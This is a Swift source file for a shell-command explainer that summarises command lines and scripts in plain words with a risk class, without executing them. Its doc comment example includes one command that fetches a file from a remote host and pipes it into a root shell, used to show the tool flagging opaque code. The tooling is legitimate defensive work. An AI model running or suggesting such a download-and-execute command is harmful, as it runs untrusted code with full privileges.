/// Explains shell command lines in plain words with a risk class. Never runs anything.
///
/// ```swift
/// let explanation = Explainer().explain("curl -s http://203.0.113.9/x | sudo sh")
/// print(explanation.summary, explanation.riskClass)
/// // Downloads a file from 203.0.113.9 and runs it as root without showing it to you. runs-opaque-code
/// ```
///
/// Input is bounded: lines longer than ``maxLineBytes`` (scripts longer than ``maxScriptBytes``) are
/// not read and come back as `unknown`; nesting is bounded by the parser and the analyzer.
/// Every text field of the result has control and bidi characters escaped, so it can be shown
/// on a terminal as is.
///
/// - Complexity: linear in the input length for bounded nesting.
package struct Explainer: Sendable {
    /// Longest line ``explain(_:)`` reads.
    package static let maxLineBytes = 64 * 1024
    /// Longest text ``explainScript(_:)`` reads.
    package static let maxScriptBytes = 4 * 1024 * 1024

    package init() {}

    /// Parses and explains one command line (which may span several lines).
    package func explain(_ line: String) -> CommandExplanation {
        let size = line.utf8.count
        if size > Self.maxLineBytes { return Self.tooLong(size) }
        let parsed = ShellParser.parse(line)
        var analyzer = CommandAnalyzer()
        let results = analyzer.analyze(parsed, CommandAnalyzer.Context())
        return Self.build(
            results: results, parts: analyzer.parts[...], effects: analyzer.effects, parsed: parsed,
            exhausted: analyzer.exhausted)
    }

    /// Explains a script (a build script, a CI `run:` block, a package script): one explanation per
    /// top-level command, in order. Functions defined earlier are known to later commands.
    ///
    /// - Returns: one explanation per command list item; a trailing unfinished construct is
    ///   reported as a last explanation with ``CommandExplanation/isIncomplete`` set.
    package func explainScript(_ text: String) -> [CommandExplanation] {
        let size = text.utf8.count
        if size > Self.maxScriptBytes { return [Self.tooLong(size)] }
        let parsed = ShellParser.parse(text)
        var analyzer = CommandAnalyzer()
        analyzer.heredocs = parsed.heredocs
        var result: [CommandExplanation] = []
        for item in parsed.script.items {
            let start = analyzer.parts.count
            let r = analyzer.analyzeAndOr(item, CommandAnalyzer.Context())
            let parts = analyzer.parts[start...]
            var effects: [CommandEffect] = []
            var seen: Set<CommandEffect> = []
            for p in parts { for e in p.effects where seen.insert(e).inserted { effects.append(e) } }
            if item.background { effects.append(CommandEffect(.background)) }
            var e = Self.build(
                results: [r], parts: parts, effects: effects, parsed: nil, exhausted: analyzer.exhausted)
            if e.parts.isEmpty || e.parts.count > 1 || e.parts[0].command.isEmpty {
                e.parts.insert(
                    CommandExplanation.Part(command: ShellText.neutralize(ShellPaths.clip(item.source, 200)), summary: e.summary, riskClass: e.riskClass, reasons: []),
                    at: 0)
                e.parts[0].effects = effects
                if e.parts.count == 2 { e.parts.removeFirst() }
            }
            result.append(e)
        }
        if parsed.isIncomplete || parsed.tooDeep {
            var last = Self.build(results: [], parts: [], effects: [], parsed: parsed, exhausted: false)
            last.isIncomplete = parsed.isIncomplete
            result.append(last)
        }
        return result
    }

    static func tooLong(_ size: Int) -> CommandExplanation {
        CommandExplanation(
            summary: "This command is too long to explain (\(size) bytes); treat it as unknown.",
            riskClass: .unknown,
            parts: [CommandExplanation.Part(command: "", summary: "not read", riskClass: .unknown, reasons: ["input longer than the limit"])])
    }

    static func build(
        results: [(phrase: String, risk: RiskClass)], parts: ArraySlice<CommandExplanation.Part>, effects: [CommandEffect],
        parsed: ParsedShell?, exhausted: Bool
    ) -> CommandExplanation {
        var risk = results.map(\.risk).max() ?? .readOnly
        for p in parts { risk = max(risk, p.riskClass) }
        var summary = sentence(results, parts: parts)
        if effects.contains(where: { $0.kind == .obfuscation }), !summary.contains("hidden"), !summary.contains("disguised") {
            summary = String(summary.dropLast()) + ", and the command is disguised to hide what it does."
        }
        var incomplete = false
        if let parsed {
            if parsed.isIncomplete {
                incomplete = true
                let what = parsed.openConstruct ?? "something"
                summary = "This command is incomplete: \(what) is not closed, so the shell would wait for more input."
                risk = .unknown
            } else if parsed.tooDeep {
                summary = "This command is nested too deeply to explain; treat it as unknown."
                risk = .unknown
            }
        }
        if exhausted {
            summary = "This input has too many commands to explain; treat it as unknown."
            risk = .unknown
        }
        var explanation = CommandExplanation(
            summary: ShellText.neutralize(summary), riskClass: risk, isIncomplete: incomplete,
            parts: parts.map(ShellText.neutralize))
        explanation.effects = effects.map { CommandEffect($0.kind, $0.detail.map { ShellText.neutralize($0) }) }
        return explanation
    }

    /// One plain sentence from the top-level phrases.
    static func sentence(_ results: [(phrase: String, risk: RiskClass)], parts: ArraySlice<CommandExplanation.Part>) -> String {
        let items = results.filter { !$0.phrase.isEmpty }
        var text: String
        if items.isEmpty {
            text = "does nothing"
        } else if items.count <= 3 {
            text = items.map(\.phrase).joined(separator: ", then ")
        } else {
            let riskiest = items.max { $0.risk < $1.risk }!
            text = "runs \(items.count) commands; the riskiest \(riskiest.phrase)"
        }
        if text.count > 400 { text = String(text.prefix(399)) + "…" }
        guard let first = text.first else { return "Does nothing." }
        text = first.uppercased() + text.dropFirst()
        if !text.hasSuffix(".") { text += "." }
        return text
    }
}
